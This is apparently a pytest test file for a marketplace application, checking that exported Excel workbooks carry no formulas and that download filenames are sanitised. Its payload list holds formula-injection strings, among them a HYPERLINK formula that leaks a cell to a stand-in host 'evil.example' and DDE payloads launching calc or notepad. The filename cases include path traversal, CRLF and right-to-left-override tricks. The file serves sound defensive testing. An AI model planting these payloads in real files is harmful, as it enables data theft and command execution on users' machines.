"""No spreadsheet we write contains a formula, whatever people type into names and texts.

Payloads go into every string a workbook shows (challenge and organisation fields, team and
partner names, review reasons, simulator ids and texts); every saved cell is read back with openpyxl.
"""

import io
from datetime import UTC, datetime
from decimal import Decimal
from urllib.parse import unquote

import pytest
from openpyxl import load_workbook

from marketplace import xlsx
from marketplace.actor import Role
from marketplace.bids.models import BidStatus
from marketplace.subsidies.engine.render import workbook as simulation_workbook
from marketplace.web.downloads import content_disposition
from tests import factories as f
from tests.bids import helpers as h

PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&F3,"查看详情")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", '=cmd|" /C notepad"!A1', "=1+1"]


def assert_no_formula(data: bytes) -> int:
    """Every cell of every sheet is data, not a formula; returns how many string cells were checked."""
    book = load_workbook(io.BytesIO(data))
    checked = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(xlsx.FORMULA_TRIGGERS), (cell.coordinate, cell.value)
                    checked += 1
    return checked


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_string_cell_is_text_and_neutralised(payload):
    book = xlsx.Book()
    book.sheet("s", [xlsx.Column(payload), xlsx.Column("n", kind="yuan")], preamble=[payload], rows=[[payload, 12345]])
    data = book.bytes()
    assert assert_no_formula(data) == 4  # preamble, two headers, one value
    ws = load_workbook(io.BytesIO(data)).active
    assert ws["A3"].value == "'" + xlsx.clean_text(payload).replace("\r", "\n")  # XML reads CR as LF
    assert ws["A3"].data_type == "s" and ws["A3"].value.startswith("'")
    assert ws["B3"].data_type == "n" and Decimal(str(ws["B3"].value)) == Decimal("123.45")
    assert ws["B3"].number_format == xlsx.YUAN_FORMAT


@pytest.mark.parametrize("payload", PAYLOADS[:4])
def test_no_export_carries_a_formula_from_any_field(client, session, payload):
    w = h.cast(session)
    w.challenge.title = payload
    w.challenge.weak_link = payload[:10]  # the column holds 10 characters (PostgreSQL enforces it)
    w.challenge.industry = payload[:20]  # the column holds 20 characters
    from marketplace.accounts.models import Organisation

    for org_id in (w.owner.organisation_id, w.team.organisation_id, w.other_team.organisation_id):
        org = session.get(Organisation, org_id)
        org.name, org.district = payload + str(org_id), payload[:10]
    w.profile.name = payload
    session.commit()
    bid = h.submit(session, w.team, w.profile, w.challenge,
                   partners=[{"organisation_id": w.other_team.organisation_id, "share_percent": 10, "role": payload}])
    h.close(session, w.challenge)
    bid.review_reason = payload
    bid.status = BidStatus.DISQUALIFIED
    session.commit()
    f.login(client, session, w.officer)
    for url in (f"/officer/challenges/{w.challenge.id}/bids.xlsx", "/officer/exports/challenges.xlsx"):
        response = client.get(url)
        assert response.status_code == 200, url
        assert assert_no_formula(response.content) > 3
        assert "'" + payload in str([c.value for r in load_workbook(io.BytesIO(response.content)).active.iter_rows()
                                     for c in r])


def test_the_subsidy_simulation_workbook_has_no_formula(tmp_path):
    p = PAYLOADS[0]
    entries = [{"id": p, "policy": p, "beneficiary": "-" + p, "entitlement": "100.00", "awarded": "100.00",
                "waitlisted": "0.00", "split": {"city": "50.00", "district": "50.00"}, "reasons": [p],
                "explanation": p, "trace": [{"step": p, "x": p}]},
               {"id": "@bad", "error": {"code": "=E", "message": p}}]
    summary = {"per_policy": {p: {"cases": 1, "awarded": "100.00"}}, "per_party": {"city": "50.00"},
               "pools": {p: {"mode": p, "total": "100.00"}}}
    out = simulation_workbook(entries, tmp_path / "s.xlsx", summary)
    assert assert_no_formula(out.read_bytes()) > 10
    book = load_workbook(out)
    assert Decimal(str(book["测算结果"]["D2"].value)) == Decimal("100.00")


def test_every_download_names_its_file_in_utf8_with_an_ascii_fallback(client, session):
    w = h.cast(session)
    h.submit(session, w.team, w.profile, w.challenge)
    h.close(session, w.challenge)
    f.login(client, session, w.officer)
    r = client.get(f"/officer/challenges/{w.challenge.id}/bids.xlsx")
    disposition = r.headers["content-disposition"]
    assert disposition.startswith("attachment; filename=\"challenge-")
    assert unquote(disposition.split("filename*=UTF-8''")[1]) == f"揭榜方案汇总_榜单{w.challenge.id}.xlsx"
    company = f.user(session, role=Role.COMPANY)
    c = f.challenge(session, company=company)
    session.commit()
    f.login(client, session, company)
    client.post(f"/challenges/{c.id}/attachments", data={"csrf_token": f.csrf(client)},
                files={"file": ("技术要求 v2.pdf", b"%PDF-1.7 x", "application/pdf")})
    from sqlmodel import select

    from marketplace.challenges.models import Attachment

    item = session.exec(select(Attachment).where(Attachment.challenge_id == c.id)).one()
    got = client.get(f"/challenges/{c.id}/attachments/{item.id}").headers["content-disposition"]
    assert got == "attachment; filename=\"v2.pdf\"; filename*=UTF-8''%E6%8A%80%E6%9C%AF%E8%A6%81%E6%B1%82%20v2.pdf"


@pytest.mark.parametrize(("name", "fallback"), [
    ("报告.pdf", "download.pdf"), ('a"b\r\nc.xlsx', "a_bc.xlsx"), ("x\u202efdp.exe", "xfdp.exe"),
    ("../../etc/passwd", "passwd"), ("Résumé.docx", "Resume.docx"), ("", "download")])
def test_content_disposition_is_one_header_line_with_a_safe_fallback(name, fallback):
    value = content_disposition(name)
    assert "\r" not in value and "\n" not in value and "\u202e" not in unquote(value)
    assert value.startswith(f'attachment; filename="{fallback}"; filename*=UTF-8\'\'')


def test_times_stay_dates_and_text_that_looks_like_a_date_stays_text():
    book = xlsx.Book()
    book.sheet("s", [xlsx.Column("t", kind="time"), xlsx.Column("s")],
               rows=[[datetime(2030, 1, 1, tzinfo=UTC), "2030-01-01"]])
    ws = load_workbook(io.BytesIO(book.bytes())).active
    assert ws["A2"].is_date and ws["B2"].data_type == "s"


def test_only_the_spreadsheet_module_imports_openpyxl():
    from pathlib import Path

    root = Path(xlsx.__file__).parent
    writers = sorted(str(p.relative_to(root)) for p in root.rglob("*.py")
                     if "openpyxl" in p.read_text(encoding="utf-8"))
    assert writers == ["xlsx.py"]
